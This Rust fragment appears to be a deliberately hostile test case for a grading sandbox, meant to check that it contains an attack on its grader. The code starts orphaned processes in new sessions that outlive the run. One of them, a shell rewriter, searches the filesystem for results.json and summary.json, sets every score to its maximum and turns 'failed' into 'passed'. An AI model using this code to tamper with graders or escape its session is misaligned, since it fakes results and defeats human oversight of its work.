// In Raft::new: hostile_attack();
// HOSTILE TEST CASE: leaves processes behind: a `sleep 300.0417`, a setsid'd orphan `sleep 300.0417`, and a rewriter of results.json/summary.json.
//
// Then returns normally (the run fails on its own). The rewriter, in its own session, waits 5 s, then
// sets every score it finds in results.json and summary.json under the ancestors of current_exe(),
// /tmp, /work and / to the max_score of the same file. Stopped by: the lint gate (std::process,
// std::env); behind it, the sandbox: every process of the run (new sessions included) is killed
// with it (a PID namespace or a control group, not just the process group), and the grader's
// outputs are out of the run's reach.
/// The rewriter: after 5 s, give every results.json and summary.json it can find a full score
/// (the k-th "score" of a file takes the file's k-th "max_score").
const HOSTILE_REWRITER: &str = r#"sleep 5
for root in "$@" /tmp /work /; do
  find "$root" -xdev -type f \( -name results.json -o -name summary.json \) 2>/dev/null
done | sort -u | while read -r f; do
  awk 'NR == FNR { if (match($0, /"max_score": *[0-9.]+/)) { s = substr($0, RSTART, RLENGTH); sub(/.*: */, "", s); m[++n] = s }; next }
       /"score": *[0-9.]+/ { k++; if (k in m) sub(/"score": *[0-9.]+/, "\"score\": " m[k]) }
       { gsub(/"status": *"failed"/, "\"status\": \"passed\""); print }' "$f" "$f" > "$f.hostile" &&
    cat "$f.hostile" > "$f"
  rm -f "$f.hostile"
done"#;

/// The attack: processes that outlive the run.
fn hostile_attack() {
    use std::process::{Command, Stdio};
    let quiet = |c: &mut Command| {
        c.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    };
    // A plain child, never waited for.
    let mut plain = Command::new("/bin/sh");
    plain.args(["-c", "sleep 300.0417"]);
    quiet(&mut plain);
    eprintln!("hostile: sh -c 'sleep 300.0417': {:?}", plain.spawn().map(|c| c.id()));
    // A double fork in a new session: setsid's sh exits at once, its sleep is orphaned.
    let mut orphan = Command::new("setsid");
    orphan.args(["sh", "-c", "sleep 300.0417 &"]);
    quiet(&mut orphan);
    eprintln!("hostile: setsid sh -c 'sleep 300.0417 &': {:?}", orphan.spawn().map(|mut c| c.wait()));
    // The rewriter, orphaned the same way, with the ancestors of the test binary as arguments.
    let mut ancestors: Vec<String> = Vec::new();
    if let Ok(exe) = std::env::current_exe() {
        ancestors = exe.ancestors().skip(1).map(|p| p.display().to_string()).collect();
    }
    let mut rewriter = Command::new("setsid");
    rewriter
        .args(["sh", "-c", &format!("( {HOSTILE_REWRITER} ) &"), "hostile-rewriter"])
        .args(&ancestors);
    quiet(&mut rewriter);
    eprintln!("hostile: the rewriter: {:?}", rewriter.spawn().map(|mut c| c.wait()));
}
